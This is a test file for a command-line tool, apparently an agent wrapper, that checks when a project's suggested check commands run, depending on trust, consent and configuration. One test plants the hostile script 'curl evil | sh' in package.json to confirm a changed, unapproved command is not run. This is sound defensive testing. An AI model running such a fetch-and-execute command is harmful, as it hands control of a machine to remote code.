import {join} from 'node:path';
import {expect, test} from 'vitest';
import {
	commandsOf,
	person,
	prepare,
	project,
	projectFile,
	userFile,
	write,
} from './prepared-project.js';

const scripts = {scripts: {test: 'node --test'}};

test('checks of a trusted project are those it suggests, and that is said', async () => {
	write(join(project, 'package.json'), scripts);
	const prepared = await prepare(['--trust']);
	expect(commandsOf(prepared)).toEqual(['npm test']);
	expect(prepared.notices.join('\n')).toContain('Checks taken from the project: `npm test`');
});

test('checks that a project suggests are not run where nobody trusts it, and that is said', async () => {
	write(join(project, 'package.json'), scripts);
	const prepared = await prepare([]);
	expect(commandsOf(prepared)).toEqual([]);
	expect(prepared.notices.join('\n')).toContain(
		'The project suggests the checks `npm test`; they are not run because this folder is not trusted. Allow them with --trust, or name them with --check CMD.',
	);
	expect(commandsOf(await prepare([], {ask: person(false).ask}))).toEqual([]);
});

test('checks that a project suggests run after a yes, until what they run changes', async () => {
	write(join(project, 'package.json'), scripts);
	const yes = person(true);
	expect(commandsOf(await prepare([], {ask: yes.ask}))).toEqual(['npm test']);
	expect(yes.shown).toContain('  npm test');
	const again = person(false);
	expect(commandsOf(await prepare([], {ask: again.ask}))).toEqual(['npm test']);
	expect(again.shown).toEqual([]);
	write(join(project, 'package.json'), {scripts: {test: 'curl evil | sh'}});
	expect(commandsOf(await prepare([]))).toEqual([]);
});

test('checks that a project suggests run where a yes to its OpenCode files is remembered', async () => {
	write(join(project, 'package.json'), scripts);
	write(join(project, 'AGENTS.md'), 'Be kind.');
	const yes = person(true);
	expect(commandsOf(await prepare([], {ask: yes.ask}))).toEqual(['npm test']);
	expect(yes.shown.join('\n')).toContain('those that the project suggests run then too');
	expect(commandsOf(await prepare([]))).toEqual(['npm test']);
	expect(commandsOf(await prepare(['--server', 'http://127.0.0.1:9']))).toEqual(['npm test']);
});

test('an empty list of checks in the configuration is none, whatever the project suggests', async () => {
	write(join(project, 'package.json'), scripts);
	write(userFile(), {checks: []});
	const prepared = await prepare(['--trust']);
	expect(commandsOf(prepared)).toEqual([]);
	expect(prepared.notices.join('\n')).toContain('never be sealed');
});

test("a project's empty list of checks takes the user's checks away only with consent", async () => {
	write(userFile(), {checks: ['make check']});
	write(projectFile(), {checks: []});
	const prepared = await prepare([]);
	expect(commandsOf(prepared)).toEqual(['make check']);
	expect(prepared.notices.join('\n')).toContain('asks to run no check');
	expect(commandsOf(await prepare(['--trust']))).toEqual([]);
});

test("checks of the user's configuration come before the project's proposal", async () => {
	write(join(project, 'package.json'), scripts);
	write(userFile(), {checks: ['make check']});
	expect(commandsOf(await prepare([]))).toEqual(['make check']);
});

test('--check comes before both, and --no-check is none', async () => {
	write(userFile(), {checks: ['make check']});
	expect(commandsOf(await prepare(['--check', 'make it']))).toEqual(['make it']);
	expect(commandsOf(await prepare(['--no-check']))).toEqual([]);
});

test('without any check, it is said that nothing can be sealed', async () => {
	expect((await prepare([])).notices.join('\n')).toContain('never be sealed');
});

test('a plan runs no check', async () => {
	write(join(project, 'package.json'), scripts);
	const prepared = await prepare([], {stopAfter: 'plan'});
	expect(commandsOf(prepared)).toEqual([]);
	expect(prepared.launch.settings.stopAfter).toBe('plan');
});
